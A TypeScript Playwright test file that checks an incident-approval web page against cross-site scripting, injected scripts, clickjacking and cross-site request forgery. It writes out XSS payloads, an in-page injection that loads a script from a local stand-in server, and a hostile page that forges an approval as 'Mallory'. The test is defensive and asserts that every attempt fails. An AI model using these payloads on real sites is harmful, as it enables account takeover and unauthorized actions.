import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { cluster } from '../attack/cluster.ts';
import { pageClient } from '../attack/page-client.ts';
import { ROLLBACK, startTarget, type Target } from '../attack/target.ts';
import { tellTests, tries } from '../attack/tell-tests.ts';
import { Bin } from '../helpers/bin.ts';
import { hasBrowser, openBrowser, troubles } from './browser.ts';
import { signIn } from './desk.ts';

/** What other people wrote, in a real browser: no script of theirs runs, nothing leaves, and no other site reaches the page. */

tellTests('attacks: the page in a real browser');
const bin = new Bin();
afterAll(() => bin.empty());

interface Elsewhere {
  origin: string;
  /** Requests that reached the other site. */
  seen: string[];
}
/** Another site; it keeps what reaches it, and serves one page. */
async function otherSite(html: () => string): Promise<Elsewhere> {
  const seen: string[] = [];
  const server = createServer((request, response) => {
    if (request.url !== '/' && request.url !== '/favicon.ico') seen.push(String(request.url));
    response.writeHead(200, { 'Content-Type': 'text/html' }).end(html());
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  bin.add(() => {
    server.closeAllConnections();
    server.close();
  });
  return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen };
}

describe.skipIf(!hasBrowser)('in a real browser', () => {
  let browser: Browser;
  let target: Target;
  let leak: Elsewhere;
  beforeAll(async () => {
    browser = await openBrowser(bin);
    target = await startTarget(bin);
    leak = await otherSite(() => '');
  });

  test('text of every kind runs no script, loads nothing and sends nothing', async () => {
    const payloads = (from: string): string[] => [
      `<script>window.pwned='${from}'</script>`,
      `<img src="${leak.origin}/${from}" onerror="window.pwned='${from}'">`,
      `"><svg onload="window.pwned='${from}'">`,
      `<a href="javascript:window.pwned='${from}'">x</a>`,
      `<iframe srcdoc="<script>parent.pwned='${from}'</script>"></iframe>`,
      `<link rel=stylesheet href=${leak.origin}/${from}.css>`,
      `{{constructor.constructor('window.pwned=1')()}}`,
    ];
    const text = (from: string): string => payloads(from).join(' ');
    const { sandbox, session } = target;
    await cluster(sandbox).rewrite(12, (record) => {
      record.info.description = text('description');
      record.config = { ...record.config, '<img src=x onerror="window.pwned=1">': text('value') };
    });
    await cluster(sandbox).rewrite(10, (record) => {
      record.manifest = record.manifest.replaceAll('"info"', JSON.stringify(text('manifest').slice(0, 200)));
      record.manifest = record.manifest.replace(/value: info/g, `value: ${JSON.stringify(payloads('manifest')[1])}`);
    });
    await cluster(sandbox).warn(text('event'));
    await session.ok('declare_incident', {
      title: (payloads('title')[1] ?? '').slice(0, 120),
      severity: 'SEV2',
      summary: text('summary').slice(0, 800),
      commander: payloads('commander')[2],
      components: [payloads('component')[0]],
    });
    for (const kind of ['observation', 'hypothesis', 'decision'])
      await session.ok('record_timeline_event', { kind, message: text(kind).slice(0, 900) });
    await session.call('get_system_health');
    const args = { ...ROLLBACK, reason: text('reason').slice(0, 400) };
    const first = await target.plan('rollback_release', args);
    const page = pageClient(new URL(first.url).origin);
    const token = await page.signIn(sandbox.secret);
    await page.post(
      `/api/approvals/${first.id}/decision`,
      { digest: first.digest, decision: 'reject', approver: payloads('approver')[2], note: text('note').slice(0, 450) },
      token,
    );
    const again = await target.plan('rollback_release', args);
    tries(12);

    const context = await browser.newContext();
    const asked: string[] = [];
    context.on('request', (request) => asked.push(request.url()));
    const tab = await context.newPage();
    const wrong = troubles(tab);
    tab.on('dialog', (dialog) => {
      wrong.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    await signIn(tab, again.url, sandbox.secret);
    await tab.getByText(first.id).first().waitFor();
    for (const details of await tab.locator('details').all())
      await details.evaluate('(element) => { element.open = true; }');
    const shown = await tab.locator('body').innerText();
    // It is all there, as text.
    for (const from of ['reason', 'hypothesis', 'approver']) expect(shown).toContain(`window.pwned='${from}'`);
    expect(await tab.evaluate('window.pwned')).toBeUndefined();
    expect(
      await tab.evaluate(
        "document.querySelectorAll('main img, main svg, main script, main iframe, main link, main object, main embed, main a[href^=javascript]').length",
      ),
    ).toBe(0);
    expect(
      await tab.evaluate(
        "[...document.querySelectorAll('*')].flatMap((e) => e.getAttributeNames()).filter((n) => n.startsWith('on'))",
      ),
    ).toEqual([]);
    // Nothing was even refused: nothing tried to run.
    expect(wrong).toEqual([]);
    expect(new Set(asked.map((url) => new URL(url).origin))).toEqual(new Set([new URL(again.url).origin]));
    expect(leak.seen).toEqual([]);
    await context.close();
    await target.nothingRan(again.id, 'rollback_release', args);
  });

  test('a script that gets in all the same is stopped by the policy of the page', async () => {
    const { url, id } = await target.plan();
    const tab = await browser.newPage();
    await tab.goto(url);
    tries(5);
    // As an injection would do it, from within the page's own world.
    const tried = await tab.evaluate(`(async () => {
      const tried = {};
      const attempt = (name, act) => { try { act(); tried[name] = 'done'; } catch { tried[name] = 'refused'; } };
      attempt('markup', () => { document.body.innerHTML = '<img src=x onerror="window.pwned=1">'; });
      attempt('text as code', () => setTimeout('window.pwned = 1', 0));
      attempt('script', () => { const s = document.createElement('script'); s.src = '${leak.origin}/script.js'; document.head.append(s); });
      attempt('inline', () => { const s = document.createElement('script'); s.text = 'window.pwned = 1'; document.head.append(s); });
      await new Promise((wake) => setTimeout(wake, 50));
      tried.fetch = await fetch('${leak.origin}/fetch').then(() => 'done', () => 'refused');
      return tried;
    })()`);
    expect(Object.values(tried as Record<string, string>)).not.toContain('done');
    expect(await tab.evaluate('window.pwned')).toBeUndefined();
    expect(leak.seen).toEqual([]);
    await tab.close();
    await target.nothingRan(id);
  });

  test('another site can neither frame the page, nor read it, nor post to it, nor keep hold of its window', async () => {
    const { url, id, digest } = await target.plan();
    const { origin } = new URL(url);
    const evil = await otherSite(
      () => `<!doctype html><iframe id=f src="${url}"></iframe>
        <form id=p method=post enctype="text/plain" action="${origin}/api/approvals/${id}/decision" target=t>
        <input name='{"digest":"${digest}","decision":"approve","approver":"Mallory","secret":"${target.sandbox.secret}","note":"' value='"}'></form><iframe name=t></iframe>`,
    );
    tries(7);
    const context = await browser.newContext();
    const tab = await context.newPage();
    await tab.goto(`${evil.origin}/`);
    const body = JSON.stringify({ digest, decision: 'approve', approver: 'Mallory', secret: target.sandbox.secret });
    const outcome = (await tab.evaluate(`(async () => {
      document.getElementById('p').submit();
      const got = {};
      const to = '${origin}/api/approvals/${id}/decision';
      const body = ${JSON.stringify(body)};
      const post = (init) => fetch(to, { method: 'POST', body, ...init }).then((r) => r.type === 'opaque' ? 'opaque' : r.text(), () => 'refused');
      got.cors = await post({ headers: { 'Content-Type': 'application/json' } });
      got.simple = await post({ headers: { 'Content-Type': 'text/plain' } });
      got.blind = await post({ mode: 'no-cors', headers: { 'Content-Type': 'text/plain' } });
      got.read = await fetch('${origin}/api/state').then((r) => r.text(), () => 'refused');
      got.beacon = navigator.sendBeacon(to, new Blob([body], { type: 'text/plain' })) ? 'sent' : 'refused';
      const opened = window.open('${url}');
      await new Promise((wake) => setTimeout(wake, 700));
      got.window = opened === null || opened.closed ? 'cut off' : 'held';
      return got;
    })()`)) as Record<string, string>;
    expect(outcome).toMatchObject({ cors: 'refused', simple: 'refused', read: 'refused', window: 'cut off' });
    expect(outcome.blind).toMatch(/^(opaque|refused)$/);
    const frame = tab.frames().find((one) => one !== tab.mainFrame() && one.url().startsWith(origin));
    expect(frame === undefined || !(await frame.content()).includes('app.js')).toBe(true);
    await context.close();
    expect(await target.statusOf(id)).toBe('pending');
    await target.nothingRan(id);
  });
});
